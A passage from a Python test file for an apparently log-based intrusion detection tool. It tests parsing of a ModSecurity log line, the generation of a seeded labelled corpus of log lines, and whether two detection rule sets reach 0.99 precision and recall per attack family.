                         ("2606:2800:220:1:248:1893:25c8:1946", "", "test-ipv6"))
        fields = engine.recordFor(
            "[Sat May 09 00:35:52.389262 2020] [:error] [pid 22406] [client 61.2.3.4:47762]"
            " [client 61.2.3.4] ModSecurity: Access denied with code 401 (phase 2).").fields
        self.assertEqual((fields["src_ip"], fields["src_port"], fields["user"]),
                         ("61.2.3.4", "47762", ""))
        self.assertTrue(fields["message"].startswith("[client 61.2.3.4] ModSecurity: "))


def _bench(name):
    """A module of C{bench/} (not a package)."""
    import importlib

    sys.path.insert(0, os.path.join(ROOT, "bench"))
    try:
        return importlib.import_module(name)
    finally:
        sys.path.pop(0)


class DetectionBenchTests(SynchronousTestCase):
    """
    C{bench/gendetection.py}'s labelled corpus and C{bench/bench_detection.py}'s
    scores: the default content keeps its figures.
    """

    def test_corpus(self):
        """
        The same seed gives the same lines; every family is there, about a
        tenth of the lines are attacks or failures.
        """
        gendetection = _bench("gendetection")
        pairs = list(gendetection.generate(20000, 4))
        self.assertEqual(pairs[:500], list(gendetection.generate(500, 4)))
        self.assertNotEqual(pairs[:500], list(gendetection.generate(500, 5)))
        labels = [label for _, label in pairs]
        self.assertEqual(set(labels) - {"benign", "informational"},
                         set(gendetection.FAMILY_IDS))
        attacks = sum(1 for label in labels if label not in gendetection.NEGATIVE)
        self.assertTrue(0.08 < attacks / len(labels) < 0.12, attacks)

    def test_scores(self):
        """
        Both rule sets reach the issue's 0.99 precision and recall on the
        corpus, overall and per family; a rule set that misses a family or
        alerts on benign lines is scored down.
        """
        bench = _bench("bench_detection")
        pairs = list(bench.generate(12000, 8))
        lines = [line for line, _ in pairs]
        labels = [label for _, label in pairs]
        engine, _ = _logidsEngine()
        for predictions in (bench.miceAlerts(AaRegexMatcher(loadAaRegex(REGEX_CONFIG)), lines),
                            bench.logidsAlerts(engine, lines)):
            (tp, fp, fn), families = bench.score(labels, predictions)
            self.assertGreaterEqual(tp / (tp + fp), 0.99)
            self.assertGreaterEqual(tp / (tp + fn), 0.99)
            for family, (n, found, right, _other, false) in families.items():
                self.assertGreaterEqual(found / n, 0.99, family)
                self.assertGreaterEqual(right / (right + false), 0.99, family)
        missing = [frozenset() if label == "ssh_failed" else frozenset({0x1021})
                   for label in labels]
        (tp, fp, fn), families = bench.score(labels, missing)
        self.assertEqual(families["ssh_failed"][1], 0)
        self.assertEqual(fp, sum(1 for label in labels if label in bench.NEGATIVE))
        self.assertEqual(families["ssh_invalid_user"][4], fp)
